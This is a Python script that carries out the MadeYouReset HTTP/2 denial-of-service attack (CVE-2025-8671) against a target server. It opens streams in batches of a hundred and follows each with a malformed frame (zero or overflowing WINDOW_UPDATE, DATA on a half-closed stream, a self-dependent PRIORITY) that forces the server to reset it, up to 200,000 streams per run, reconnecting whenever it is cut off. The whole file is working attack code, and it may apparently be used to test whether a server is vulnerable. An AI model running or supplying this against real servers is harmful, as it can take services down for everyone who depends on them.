#!/usr/bin/env python3
"""MadeYouReset (CVE-2025-8671): open a stream for a large file and at once send a
frame that makes the SERVER reset it (a stream error): WINDOW_UPDATE with increment 0,
DATA on a half-closed (remote) stream, a WINDOW_UPDATE that overflows the stream
window, a PRIORITY that depends on itself. One kind per quarter of the run (--count
and --seconds are split), reconnecting when the server closes. Resets the server
sends must count against the same budget as the client's (or the server may treat
the frame as a connection error and close: then each connection costs a handshake)."""
import struct
import time

import h2attack as a


def second_frame(kind, sid):
    if kind == "wu0":
        return a.window_update(sid, 0)
    if kind == "data-half-closed":
        return a.frame(a.DATA, 0, sid, b"x")
    if kind == "wu-overflow":
        return a.window_update(sid, 0x7FFFFFFF)
    return a.frame(a.PRIORITY, 0, sid, struct.pack(">IB", sid, 15))  # depends on itself


def attack(args):
    get_end = a.request_block(a.authority(args), args.big, scheme=a.scheme(args))
    kinds = ["wu0", "data-half-closed", "wu-overflow", "priority-self"]
    total = 0
    reactions = []
    for kind in kinds:
        agg = a.Agg()
        deadline = time.monotonic() + args.seconds / len(kinds)
        sent = 0
        while sent < args.count // len(kinds) and time.monotonic() < deadline:
            c = a.Conn(args)
            sid = 1
            while not c.closed and sent < args.count // len(kinds) and time.monotonic() < deadline \
                    and sid < (1 << 31) - 400:
                batch = []
                for _ in range(100):
                    batch.append(a.frame(a.HEADERS, a.END_STREAM | a.END_HEADERS, sid, get_end))
                    batch.append(second_frame(kind, sid))
                    sid += 2
                if not c.send(b"".join(batch), timeout=max(0.1, deadline - time.monotonic())):
                    break
                sent += 100
            c.pump(0.3)
            agg.add(c)
            c.close()
        total += sent
        reactions.append("%s (%d streams): %s" % (kind, sent, agg.reaction()))
    return {"sent": "%d streams each followed by a frame that makes the server reset it" % total,
            "streams": total, "reaction": " | ".join(reactions)}


if __name__ == "__main__":
    a.run("made_you_reset", __doc__, attack, count_default=200000)
